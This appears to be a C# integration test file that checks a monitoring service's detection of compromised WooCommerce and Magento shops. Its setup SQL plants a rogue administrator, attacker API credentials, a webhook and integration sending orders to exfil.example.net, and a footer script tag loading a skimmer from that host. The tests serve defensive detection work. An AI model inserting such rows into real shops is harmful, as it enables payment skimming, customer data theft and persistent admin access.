using System.Security.Cryptography;
using System.Text.Json.Nodes;
using CaseManagement.IntegrationTests.Infrastructure;
using CaseManagement.Monitoring;
using CaseManagement.Monitoring.Passes;
using CaseManagement.Security;
using CaseManagement.ShopGeneration;
using CaseManagement.Shops;
using CaseManagement.Shops.Model;
using CaseManagement.Shops.Php;
using FluentAssertions;
using Microsoft.Extensions.DependencyInjection;
using MySqlConnector;
using Wolverine;

namespace CaseManagement.IntegrationTests.Monitoring;

/// <summary>
/// A generated shop of its own in the test MariaDB (dropped afterwards), registered by an admin; tests run passes on demand
/// (POST …/monitoring/passes, the same handler the schedule runs) and plant an attacker's changes between them.
/// </summary>
public abstract class MonitoringScenario(AppFixture fixture, ShopPlatform platform, string prefix) : ServiceScenario(fixture), IAsyncLifetime
{
    protected const string ExfilHost = "exfil.example.net";

    protected string Database { get; } = "shop_mon_" + Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(5));

    protected string ShopName => $"mon-{Database[9..]}";

    protected IncidentApi Admin => ApiAs("ada.admin@shop.test", Organisation, Roles.Admin);

    /// <summary>The keys each planted change is watched under, by category: what a pass after <see cref="PlantAsync"/> must raise, once each.</summary>
    protected abstract IReadOnlyList<string> PlantedKeyPrefixes { get; }

    public async Task InitializeAsync()
    {
        await OnServerAsync($"CREATE DATABASE `{Database}` CHARACTER SET utf8mb4");
        var now = DateTimeOffset.UtcNow;
        await ShopGenerator.GenerateAsync(Settings(), new ShopGenerationOptions(Customers: 30, Orders: 60, Seed: 17, now.AddDays(-30), now));
        await Admin.SendAsync(HttpMethod.Post, "/api/shops", Registration(), 201);
    }

    public async Task DisposeAsync()
    {
        MySqlConnection.ClearAllPools();
        await OnServerAsync($"DROP DATABASE IF EXISTS `{Database}`");
    }

    protected Task<JsonNode> PassAsync(int expectedStatus = 200) => Api.SendAsync(HttpMethod.Post, $"/api/shops/{ShopName}/monitoring/passes", null, expectedStatus);

    protected Task<JsonNode> MonitoringAsync() => Api.GetAsync($"/api/shops/{ShopName}/monitoring");

    /// <summary>The schedule, once the registration's cascaded start reached it (its own queue, a moment after the 201).</summary>
    protected async Task<JsonNode> ScheduleAsync() =>
        (await Api.WaitForAsync($"/api/shops/{ShopName}/monitoring", m => m["schedule"] is not null))["schedule"]!;

    protected async Task<JsonArray> AlertsAsync() => (JsonArray)await Api.GetAsync($"/api/alerts?shop={ShopName}");

    protected static List<string> Keys(JsonNode pass) => [.. pass["raised"]!.AsArray().Select(r => r!["key"]!.GetValue<string>())];

    /// <summary>An attacker's footprint, planted after the baseline: admin, credential, extension, skimmer, export, and what else the platform keeps.</summary>
    protected abstract Task PlantAsync();

    protected async Task ExecuteAsync(string sql, params (string Name, object? Value)[] parameters)
    {
        await using var connection = new MySqlConnection(Settings().ConnectionString);
        await connection.OpenAsync();
        await using var command = new MySqlCommand(sql.Replace("{p}", prefix), connection);
        foreach (var (name, value) in parameters)
        {
            command.Parameters.AddWithValue(name, value);
        }

        await command.ExecuteNonQueryAsync();
    }

    protected static async Task OnServerAsync(string sql)
    {
        await using var connection = new MySqlConnection(new MySqlConnectionStringBuilder(TestDatabases.Shop) { Database = "" }.ConnectionString);
        await connection.OpenAsync();
        await using var command = new MySqlCommand(sql, connection);
        await command.ExecuteNonQueryAsync();
    }

    private ShopConnectionSettings Settings() =>
        new(platform, new MySqlConnectionStringBuilder(TestDatabases.Shop) { Database = Database }.ConnectionString, prefix, "UTC");

    private object Registration()
    {
        var server = new MySqlConnectionStringBuilder(TestDatabases.Shop);
        return new
        {
            name = ShopName, platform = platform == ShopPlatform.WooCommerce ? "woocommerce" : "magento", host = server.Server, port = (int)server.Port,
            database = Database, user = server.UserID, password = server.Password, readOnlyUser = "casemanagement_ro", readOnlyPassword = "casemanagement_ro",
            tablePrefix = prefix, timeZone = "UTC",
        };
    }

    [Fact]
    public async Task registering_the_shop_schedules_its_monitoring_and_an_untouched_shop_raises_nothing()
    {
        var scheduled = await ScheduleAsync();
        scheduled["intervalMinutes"]!.GetValue<int>().Should().Be(TestHosts.MonitoringIntervalMinutes, "the configured interval (Monitoring:IntervalMinutes)");
        scheduled["nextPassAt"]!.GetValue<DateTimeOffset>().Should().BeAfter(DateTimeOffset.UtcNow.AddMinutes(TestHosts.MonitoringIntervalMinutes - 2),
            "the first scheduled pass is one interval after registration");

        var first = await PassAsync();
        var second = await PassAsync();

        first["outcome"]!.GetValue<string>().Should().Be("baseline-recorded");
        Keys(first).Should().BeEmpty("a generated shop has no skimmer and no admin created in the look-back");
        second["outcome"]!.GetValue<string>().Should().Be("nothing-new", "nothing changed between the passes");
        (await AlertsAsync()).Should().BeEmpty("monitoring sent no alert about an untouched shop");
        var monitoring = await MonitoringAsync();
        monitoring["baseline"]!["items"]!.AsArray().Should().NotBeEmpty("the baseline holds at least the shop's extensions");
        monitoring["schedule"]!["recent"]!.AsArray().Select(p => p!["outcome"]!.GetValue<string>()).Should().Equal("nothing-new", "baseline-recorded");
    }

    [Fact]
    public async Task each_planted_change_is_raised_exactly_once_as_an_alert_through_intake()
    {
        await PassAsync();
        await PlantAsync();

        var raised = await PassAsync();
        var again = await PassAsync();

        var keys = Keys(raised);
        foreach (var planted in PlantedKeyPrefixes)
        {
            keys.Where(k => k.StartsWith(planted, StringComparison.Ordinal)).Should().ContainSingle($"the planted {planted} change is raised once");
        }

        keys.Should().HaveCount(PlantedKeyPrefixes.Count, "nothing else changed in the shop");
        again["outcome"]!.GetValue<string>().Should().Be("nothing-new", "every change is open already: a second pass has nothing new");
        var alerts = await AlertsAsync();
        alerts.Should().HaveCount(keys.Count, "one alert per change, none from the second pass");
        alerts.Should().OnlyContain(a => a!["source"]!.GetValue<string>() == "shop-monitoring" && a["sightings"]!.AsArray().Count == 1,
            "monitoring reports through alert intake as its own source, each change once");
        var skimmer = raised["raised"]!.AsArray().Single(r => r!["key"]!.GetValue<string>().StartsWith("skimmer:", StringComparison.Ordinal))!;
        var placed = await Api.WaitForAsync($"/api/alerts/{skimmer["alertId"]}", a => a["status"]!.GetValue<string>() != "new");
        placed["status"]!.GetValue<string>().Should().Be("triaged", "correlation found no open incident on the shop, so the alert waits in a triage item");
    }

    [Fact]
    public async Task accepting_a_change_into_the_baseline_silences_it()
    {
        await PassAsync();
        await PlantAsync();
        var raised = Keys(await PassAsync());
        var key = raised.First(k => k.StartsWith("extension:", StringComparison.Ordinal));

        var refused = await Api.SendAsync(HttpMethod.Post, $"/api/shops/{ShopName}/monitoring/accept", new { key = "admin:0", reason = "typo" }, 422);
        var accepted = await Api.SendAsync(HttpMethod.Post, $"/api/shops/{ShopName}/monitoring/accept", new { key, reason = "the shop installed it on purpose" }, 200);

        refused["errors"]!["key"]![0]!.GetValue<string>().Should().Contain(key, "the problem lists the open changes to pick from");
        accepted["by"]!.GetValue<string>().Should().Be($"user:{IncidentApi.Responder}", "the event names who accepted");
        var monitoring = await MonitoringAsync();
        monitoring["baseline"]!["items"]!.AsArray().Select(i => i!["key"]!.GetValue<string>()).Should().Contain(key, "the change is normal now");
        monitoring["baseline"]!["open"]!.AsArray().Select(i => i!["key"]!.GetValue<string>()).Should().NotContain(key);
        monitoring["baseline"]!["history"]!.AsArray().Last()!["reason"]!.GetValue<string>().Should().Be("the shop installed it on purpose");
        var later = await PassAsync();
        Keys(later).Should().BeEmpty("an accepted change is never raised again, and the other changes are open already");
    }

    [Fact]
    public async Task a_shop_database_that_is_down_is_a_recorded_failed_pass()
    {
        await PassAsync();
        await OnServerAsync($"DROP DATABASE `{Database}`");

        var failed = await PassAsync();

        failed["outcome"]!.GetValue<string>().Should().Be("failed");
        failed["problem"]!.GetValue<string>().Should().NotBeNullOrWhiteSpace("the log says why the pass failed");
        (await MonitoringAsync())["schedule"]!["recent"]![0]!["outcome"]!.GetValue<string>().Should().Be("failed", "the failed pass is in the schedule's log");
        await OnServerAsync($"CREATE DATABASE `{Database}` CHARACTER SET utf8mb4");
    }

    [Fact]
    public async Task deactivating_the_shop_stops_its_schedule()
    {
        var chain = (await ScheduleAsync())["chain"]!.GetValue<Guid>();
        await Admin.SendAsync(HttpMethod.Post, $"/api/shops/{ShopName}/deactivate", new { reason = "shop closed" }, 200);

        // The scheduled pass as the schedule would deliver it.
        using var scope = Host.Services.CreateScope();
        var scheduled = await scope.ServiceProvider.GetRequiredService<IMessageBus>().InvokeForTenantAsync<MonitoringPassResult>(
            Organisation, new RunMonitoringPass(ShopName, ShopBaseline.StreamId(Organisation, ShopName), chain));

        scheduled.Outcome.Should().Be("stopped");
        var schedule = (await MonitoringAsync())["schedule"]!;
        schedule["stoppedBecause"]!.GetValue<string>().Should().Contain("shop closed");
        schedule["nextPassAt"].Should().BeNull("no pass is scheduled for a deactivated shop");
        await PassAsync(409);
    }
}

public sealed class when_monitoring_a_woocommerce_shop(AppFixture fixture) : MonitoringScenario(fixture, ShopPlatform.WooCommerce, "wp_")
{
    protected override IReadOnlyList<string> PlantedKeyPrefixes =>
        ["admin:", "credential:woo-commerce-api-key:", "credential:woo-commerce-webhook:", "extension:word-press-plugin:nulled-seo", "skimmer:", "export:"];

    protected override async Task PlantAsync()
    {
        await ExecuteAsync("""
            INSERT INTO `{p}users` (user_login, user_pass, user_nicename, user_email, user_registered, display_name)
            VALUES ('eve', 'x', 'eve', 'eve@evil.example', UTC_TIMESTAMP(), 'Eve');
            INSERT INTO `{p}usermeta` (user_id, meta_key, meta_value) SELECT ID, '{p}capabilities', 'a:1:{s:13:"administrator";b:1;}' FROM `{p}users` WHERE user_login = 'eve';
            INSERT INTO `{p}woocommerce_api_keys` (user_id, description, permissions, consumer_key, consumer_secret, truncated_key)
              SELECT ID, 'Sync', 'read_write', SHA2('k', 256), 'cs_x', 'abcdefg' FROM `{p}users` WHERE user_login = 'eve';
            INSERT INTO `{p}wc_webhooks` (status, name, user_id, delivery_url, secret, topic, date_created, date_created_gmt, api_version)
              VALUES ('active', 'Order sync', 1, 'https://exfil.example.net/hook', 's', 'order.created', UTC_TIMESTAMP(), UTC_TIMESTAMP(), 3);
            INSERT INTO `{p}options` (option_name, option_value, autoload) VALUES ('footer_scripts', '<script src="https://exfil.example.net/c.js"></script>', 'yes');
            INSERT INTO `{p}actionscheduler_actions` (hook, status, scheduled_date_gmt, scheduled_date_local, args)
              VALUES ('wc-admin_report_export', 'complete', UTC_TIMESTAMP(), UTC_TIMESTAMP(), '{"report_type":"customers"}');
            """);
        await ExecuteAsync("UPDATE `{p}options` SET option_value = @plugins WHERE option_name = 'active_plugins'",
            ("@plugins", PhpSerializer.Serialize(PhpArray.List("woocommerce/woocommerce.php", "nulled-seo/nulled-seo.php"))));
    }
}

public sealed class when_monitoring_a_magento_shop(AppFixture fixture) : MonitoringScenario(fixture, ShopPlatform.Magento, "")
{
    protected override IReadOnlyList<string> PlantedKeyPrefixes =>
        ["admin:", "credential:magento-integration:", "credential:magento-o-auth-consumer:", "extension:magento-module:Nulled_Seo", "skimmer:", "export:", "failed-logins:"];

    protected override Task PlantAsync() => ExecuteAsync("""
        INSERT INTO `{p}admin_user` (firstname, lastname, email, username, password, created, is_active, failures_num)
          VALUES ('Eve', 'E', 'eve@evil.example', 'eve', 'hash', UTC_TIMESTAMP(), 1, 7);
        INSERT INTO `{p}authorization_role` (parent_id, tree_level, role_type, user_id, user_type, role_name)
          SELECT 1, 2, 'U', user_id, '2', 'eve' FROM `{p}admin_user` WHERE username = 'eve';
        INSERT INTO `{p}oauth_consumer` (created_at, name, `key`, secret, rejected_callback_url) VALUES (UTC_TIMESTAMP(), 'Integration9', 'k9', 's9', '');
        INSERT INTO `{p}integration` (name, email, endpoint, status, consumer_id, created_at)
          SELECT 'Sync', 'ops@evil.example', 'https://exfil.example.net/magento', 1, entity_id, UTC_TIMESTAMP() FROM `{p}oauth_consumer` WHERE name = 'Integration9';
        INSERT INTO `{p}setup_module` (module, schema_version, data_version) VALUES ('Nulled_Seo', '1.0.0', '1.0.0');
        INSERT INTO `{p}core_config_data` (scope, scope_id, path, value) VALUES ('default', 0, 'design/footer/absolute_footer', '<script src="https://exfil.example.net/c.js"></script>');
        INSERT INTO `{p}magento_bulk` (uuid, user_id, description, operation_count, start_time) VALUES ('6b0c9a3e-1d2f-4e5a-8b7c-9d0e1f2a3b4d', 1, 'Export customers', 1, UTC_TIMESTAMP());
        """);
}
